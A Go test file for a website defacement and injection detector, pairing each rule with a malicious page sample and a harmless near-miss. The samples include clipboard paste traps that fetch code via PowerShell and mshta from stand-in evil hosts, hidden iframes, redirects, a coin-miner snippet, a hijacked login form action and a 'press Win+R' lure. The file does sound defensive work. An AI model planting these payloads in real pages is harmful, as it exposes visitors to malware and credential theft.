package compare

import (
	"image"
	"image/color"
	"slices"
	"strings"
	"testing"
)

// trial is what one rule must find, and the nearest harmless thing that it must not.
type trial struct {
	rule     string
	verdict  Verdict // of the bad one
	bad      func(testing.TB) Look
	harmless func(testing.TB) Look
}

var (
	night = color.RGBA{8, 8, 8, 255}
	day   = color.RGBA{90, 150, 210, 255}
)

const honestWidget = `(function(){var box=document.createElement("div");box.className="w";box.textContent="Share";document.body.appendChild(box)})();`

var trials = []trial{
	{"defacement.title", Alert, replaced("<title>Ministry", "<title>Hacked by QuietFox - Ministry"), replaced("<title>Ministry", "<title>Eid Mubarak - Ministry")},
	{"defacement.dialog", Alert, seen(func(v *View) { v.Dialogs = []string{"H4cked By QuietFox!!"} }), seen(func(v *View) { v.Dialogs = []string{"This site uses cookies"} })},
	{"defacement.phrase", Alert, added("<div>Hacked by QuietFox</div>"),
		added("<p><a href=/news/7>Cyber wing: Website of the ministry hacked by unknown group, says spokesman</a></p>")},
	{"defacement.words", Suspicious, added("<p>Officials told the press on Monday that two portals of the province were hacked by a group from abroad and have since been restored with the help of the national response team.</p>"),
		added("<p>The workshop on computer security was attended by officers of all divisions.</p>")},
	{"defacement.replaced", Alert, wholePage("~", "<img src=/x.gif><p>silence is the loudest word that the foxes ever said to anybody out here</p>"),
		wholePage("Ministry of Planning, Development and Reform", "<img src=/img/emblem.png><h1>Ministry of Planning, Development and Reform</h1><p>We mourn the loss of life.</p><a href=/about>Continue</a><a href=/projects>Projects</a><a href=/tenders>Tenders</a>")},
	{"defacement.redesign", Suspicious, wholePage("Ministry of Planning, Development and Reform", redesigned), added("<p>One more notice.</p>")},
	{"defacement.emptied", Suspicious, func(t testing.TB) Look { return edited(t, emptied) }, replaced("The Ministry of Planning prepares", "The Ministry now prepares")},
	{"defacement.covered", Suspicious, func(t testing.TB) Look { return covered(t, night) }, func(t testing.TB) Look { return ministryLook(t, 4) }},
	{"defacement.image", Alert, heroPainted("/img/hero.jpg", night), heroPainted("/img/hero-2.jpg", day)},
	{"defacement.new_dialog", Suspicious, seen(func(v *View) { v.Dialogs = []string{"Welcome"} }), added("<p>Welcome</p>")},
	{"defacement.dialog_loop", Alert, seen(func(v *View) { v.Dialogs = slices.Repeat([]string{"please wait"}, 21) }),
		seen(func(v *View) { v.Dialogs = slices.Repeat([]string{"please wait"}, 20) })},
	{"availability.own_page", Suspicious, wholePage("Back soon", "<h1>Under maintenance</h1><p>Our systems are being upgraded tonight, we will be back shortly and thank you for waiting.</p>"),
		added("<p>The portal will be under maintenance on Sunday.</p>")},
	{"injection.skimmer", Alert, added(inlineSkimmer), added(`<script>document.getElementById("search").addEventListener("submit",function(e){e.preventDefault();var q=document.querySelector("input[name=q]").value;
		fetch("/api/search?q="+q).then(function(r){return r.text()}).then(function(t){document.getElementById("main").innerHTML=t})})</script>`)},
	{"injection.decoder", Alert, added(attackNamed("decoder")), added(`<script>var label=unescape("caf%E9");document.getElementById("top").title=label;</script>`)},
	{"injection.frame_writer", Alert, added(`<script>document.write('<iframe src="https://kit.evil-gate.top/in" style="display:none"></iframe>')</script>`),
		added(`<script>var f=document.createElement("iframe");f.src="https://www.youtube.com/embed/abc";document.getElementById("main").appendChild(f)</script>`)},
	{"injection.paste_trap", Alert, added(`<script>document.onclick=function(){navigator.clipboard.writeText("powershell -w hidden -c iwr x")}</script>`),
		added(`<script>document.getElementById("copy").onclick=function(){navigator.clipboard.writeText(location.href)}</script>`)},
	{"injection.redirect_script", Alert, added(`<script>setTimeout(function(){window.location.href="https://evil-land.top/win"},10)</script>`),
		added(`<script>if(screen.width<500){window.location.href="/mobile/"}</script>`)},
	{"injection.miner", Alert, external("https://evil-coin.top/m.js", `var m=new CoinHive.Anonymous("k");var n="coinhive.min";m.start();`), external("https://www.planning.gov.pk/js/w.js", honestWidget)},
	{"injection.script_host", Suspicious, external("https://widgets.example-share.com/w.js", honestWidget), external("https://cdn.jsdelivr.net/npm/swiper@11/swiper.min.js", honestWidget)},
	{"injection.destination", Suspicious, seen(func(v *View) { v.Destinations = []Destination{{"collect.evil-drop.top", 812}} }),
		seen(func(v *View) {
			v.Destinations = []Destination{{"www.google-analytics.com", 812}, {"img.example-cdn.net", 0}}
		})},
	{"injection.hidden_link", Alert, added(`<div style="display:none"><a href="https://x.evil-bet.top/">online casino</a></div>`), added(`<div style="display:none"><a href="/print">Print this page</a></div>`)},
	{"injection.hidden_links", Suspicious, added(`<div style="position:absolute;left:-5000px"><a href="https://a.aaa-one.top/">one</a><a href="https://b.bbb-two.top/">two</a><a href="https://c.ccc-three.top/">three</a></div>`),
		added(`<div style="position:absolute;left:-5000px"><a href="#main">Skip to content</a><a href="/map">Site map</a><a href="/help">Help</a></div>`)},
	{"injection.spam_link", Suspicious, added(`<p><a href="https://x.evil-bet.top/">slot gacor</a></p>`), added(`<p><a href="https://www.psdp-monitor.org/slots">Time slots for hearings</a></p>`)},
	{"injection.spam_text", Alert, added(`<p>situs slot gacor maxwin, togel and judi online with sbobet</p>`), added(`<p>The tribunal heard a petition against an online casino.</p>`)},
	{"injection.spam_title", Alert, replaced("<title>Ministry", "<title>Slot Gacor Maxwin | Ministry"), replaced("<title>Ministry", "<title>Time slots | Ministry")},
	{"injection.frame", Suspicious, added(`<iframe src="https://live.example-stream.com/tv"></iframe>`), added(`<iframe src="https://www.google.com/maps/embed?pb=1"></iframe>`)},
	{"injection.hidden_frame", Alert, added(`<iframe src="https://gate.evil-kit.top/" width=1 height=1></iframe>`), added(`<iframe src="https://www.googletagmanager.com/ns.html" width=0 height=0 style="display:none"></iframe>`)},
	{"injection.form_action", Alert, replaced("action=/login", "action=https://evil-login.top/in"), replaced("action=/login", "action=https://sso.planning.gov.pk/login")},
	{"injection.meta_refresh", Alert, headed(`<meta http-equiv=refresh content="0;url=https://evil-land.top/">`), headed(`<meta http-equiv=refresh content="300;url=/">`)},
	{"injection.base_href", Alert, headed(`<base href="https://evil-base.top/">`), headed(`<base href="https://www.planning.gov.pk/">`)},
	{"injection.redirect", Alert, func(t testing.TB) Look {
		l := wholePage("You won", "<p>Congratulations, click to claim the prize of the day that was kept for you</p>")(t)
		l.View.FinalURL = "https://evil-land.top/win"
		return l
	}, seen(func(v *View) { v.FinalURL = "https://planning.gov.pk/home" })},
	{"injection.download", Alert, seen(func(v *View) {
		v.Downloads = []Download{{"https://evil-file.top/update.exe", "update.exe", "application/octet-stream"}}
	}), added("<a href=/form.pdf>Form</a>")},
	{"injection.redirect_hop", Suspicious, seen(func(v *View) {
		v.Hops = []Hop{{ministryURL, "script"}, {"https://sort.evil-tds.top/r?c=1", "http"}}
	}), seen(func(v *View) {
		v.Hops = []Hop{{"http://planning.gov.pk/", "http"}, {"https://planning.gov.pk/", "http"}, {"https://login.microsoftonline.com/x", "http"}}
	})},
	{"injection.popup", Suspicious, seen(func(v *View) { v.Popups = []string{"https://win.evil-ads.top/"} }),
		seen(func(v *View) {
			v.Popups = []string{ministryURL + "notice", "https://www.facebook.com/planning", "about:blank", ""}
		})},
	{"injection.popups", Suspicious, seen(func(v *View) { v.Popups = slices.Repeat([]string{"about:blank"}, 10) }),
		seen(func(v *View) { v.Popups = slices.Repeat([]string{ministryURL}, 3) })},
	{"injection.clipboard", Alert, seen(func(v *View) { v.Asks = []Ask{{"clipboard_write", "mshta https://evil-paste.top/x"}} }), ministryAt(4)},
	{"injection.clipboard_read", Suspicious, seen(func(v *View) { v.Asks = []Ask{{"clipboard_read", ""}} }), ministryAt(4)},
	{"injection.permission", Suspicious, seen(func(v *View) { v.Asks = []Ask{{"notification", ""}, {"camera", ""}} }), ministryAt(4)},
	{"injection.reach_metadata", Alert, seen(func(v *View) { v.Refused = []Refusal{{"169.254.169.254", 80, refusedPrivate, ""}} }),
		seen(func(v *View) { v.Refused = []Refusal{{"169.254.169.253", 80, refusedPrivate, ""}} })},
	{"injection.reach_inside", Suspicious, seen(func(v *View) {
		v.Refused = []Refusal{{"10.0.0.1", 80, refusedPrivate, ""}, {"localhost", 631, refusedPrivate, ""}}
	}),
		seen(func(v *View) { v.Refused = []Refusal{{"www.planning.gov.pk", 443, refusedPrivate, ""}} })},
	{"injection.reach_port", Suspicious, seen(func(v *View) { v.Refused = []Refusal{{"irc.evil-chat.top", 6667, refusedPort, ""}} }),
		seen(func(v *View) { v.Refused = []Refusal{{"stream.planning.gov.pk", 8000, refusedPort, ""}} })},
	{"injection.lure", Alert, added("<p>Verify you are human: press Windows key + R, then press Ctrl + V and press Enter</p>"), added("<p>Press Ctrl + P to print the form.</p>")},
	{"leak.cnic", Alert, added(identities(24)), added("<p>Write your number as 35202-1234567-1, epoch 1700000000000, order 99999-1234567-1.</p>")},
	{"leak.card", Alert, added("<p>4111 1111 1111 1111, 5500-0000-0000-0004, 4012888888881881, 6011000990139424</p>"), added("<p>Tracking 4111111111111112, 5500000000000005 and 9999999999999995; call 0092519201234567</p>")},
	{"leak.iban", Alert, added("<p>" + strings.Join(ibans(12), "</p><p>") + "</p>"), added("<p>Donate to " + ibans(1)[0] + ", not to PK00SCBL0000001123456702</p>")},
	{"leak.mail", Suspicious, added("<p>" + mails(30, "gmail.com") + "</p>"), added("<p>" + mails(9, "planning.gov.pk") + "</p>")},
	{"leak.secrets", Alert, added("<pre>DB_USERNAME=root\nDB_PASSWORD=hunter2-example\nAPP_KEY=base64:abc</pre>"), added("<p>The DATABASE_URL variable is described in the manual.</p>")},
	{"leak.phpinfo", Alert, added("<h1>PHP Version 8.1.2</h1><td>Loaded Configuration File</td>"), added("<p>Runs on PHP Version 8</p>")},
	{"leak.directory", Alert, wholePage("Index of /", "<h1>Index of /</h1><a href=/>Parent Directory</a><a href=backup.zip>backup.zip</a><a href=db.sql>db.sql</a>"), added("<h2>Index of publications</h2>")},
	{"leak.sql_error", Alert, added("<b>Warning: mysqli_query(): (42000/1064)</b> You have an error in your SQL syntax near"), added("<p>A course on MySQL and its SQL syntax begins in May.</p>")},
	{"leak.stack_trace", Alert, added("<pre>Traceback (most recent call last):\n File x</pre>"), added("<p>An exception to the rule was granted.</p>")},
	{"leak.warning", Suspicious, added("<p>Warning: Undefined variable $x in /var/www/html/index.php on line 12</p>"), added("<p>Warning: heavy rain on Monday</p>")},
}

const redesigned = `<div class=shell><section><article><h3>Planning for everyone</h3><div><span>Priorities</span></div></article><aside><dl><dt>Annual plan</dt><dd>Targets for growth</dd></dl></aside></section>
<section><figure><picture><img src=/assets/new.webp></picture><figcaption>Programme office</figcaption></figure></section><section><a href=/about-us>About</a><a href=/work>Work</a><a href=/data>Data</a><a href=/media>Media</a></section></div>`

// emptied keeps all elements and links of the page and says other things in them.
func emptied(page string) string {
	r := strings.NewReplacer("About the ministry", "-", "Projects and schemes", "-", "Tenders", "-", "Contact us", "-", "Ministry of Finance", "-", "Latest notices", "-",
		"The Ministry of Planning prepares the national plan, reviews public sector projects and monitors how they are carried out in all provinces.", "foxes run",
		"Citizens may ask for information about any scheme under the Right of Access to Information Act by writing to the public information officer.", "at night",
		"Block P, Secretariat, Islamabad.", "", "State emblem", "", "Secretariat building", "", "of the development programme", "", "<h1>Ministry of Planning, Development and Reform", "<h1>")
	return r.Replace(page)
}

func attackNamed(name string) string {
	i := slices.IndexFunc(attacks, func(a attack) bool { return a.name == name })
	return strings.TrimSuffix(attacks[i].do("</body>"), "</body>")
}

// covered is the next look under an overlay: the document stays, the picture is
// another one.
func covered(t testing.TB, ground color.RGBA) Look {
	l := ministryLook(t, 4)
	img := clone(l.Picture)
	fill(img, img.Rect, ground)
	for i := range 30 {
		fill(img, rectOf(Box{int32(37 * i), int32(31 * i), int32(300 - 7*i), int32(20 + 3*i)}), color.RGBA{uint8(8 * i), 120, uint8(240 - 8*i), 255})
	}
	l.Picture = img
	return l
}

func hasRule(r *Report, id string) bool {
	return slices.ContainsFunc(r.Findings, func(f Finding) bool { return f.Rule == id })
}

// A slide that moved, a file that did not load and a window in front of the hero
// are no exchange of it.
func TestImagesThatOnlyLookExchanged(t *testing.T) {
	b := ministryBaseline(t)
	moved := ministryLook(t, 4)
	moved.Picture = painted(1366, 9, 1, 2, 3, 4, 5, 6)
	for i, e := range moved.View.Elements {
		if e.Key == "#hero" {
			moved.View.Elements[i].Box.Y += 160
		}
	}
	blank := heroPainted("/img/hero.jpg", night)(t)
	fill(blank.Picture.(*image.RGBA), rectOf(heroBox), night)
	window := heroPainted("/img/hero.jpg", night)(t)
	window.View.Elements = append(window.View.Elements, Element{Parent: 0, Tag: "img", Src: ministryURL + "mourning.png", Box: Box{300, 300, 600, 250}})
	for name, look := range map[string]Look{"moved": moved, "not loaded": blank, "under a window": window} {
		if r := Compare(b, look, nil); r.Verdict == Alert || name != "under a window" && r.Verdict != Benign {
			t.Errorf("%s: %s", name, describe(r))
		}
	}
}

// Every rule finds what it is for and leaves the nearest harmless thing alone.
func TestRules(t *testing.T) {
	b := ministryBaseline(t)
	for _, tr := range trials {
		t.Run(tr.rule, func(t *testing.T) {
			r := Compare(b, tr.bad(t), nil)
			if !hasRule(r, tr.rule) || r.Verdict != tr.verdict {
				t.Errorf("bad page: want %s by %s, got %s", tr.verdict, tr.rule, describe(r))
			}
			r = Compare(b, tr.harmless(t), nil)
			if hasRule(r, tr.rule) || r.Verdict == Alert {
				t.Errorf("harmless page: want no %s and no alert, got %s", tr.rule, describe(r))
			}
		})
	}
}

// A rule that is not tried here would be a rule nobody knows to work.
func TestEveryRuleIsTried(t *testing.T) {
	for _, r := range Rules() {
		if !slices.ContainsFunc(trials, func(tr trial) bool { return tr.rule == r.ID }) {
			t.Errorf("rule %s has no trial", r.ID)
		}
		if r.Title == "" || r.Source == "" || r.Severity.Rank() == 0 {
			t.Errorf("rule %s lacks a title, a source or a severity", r.ID)
		}
	}
}
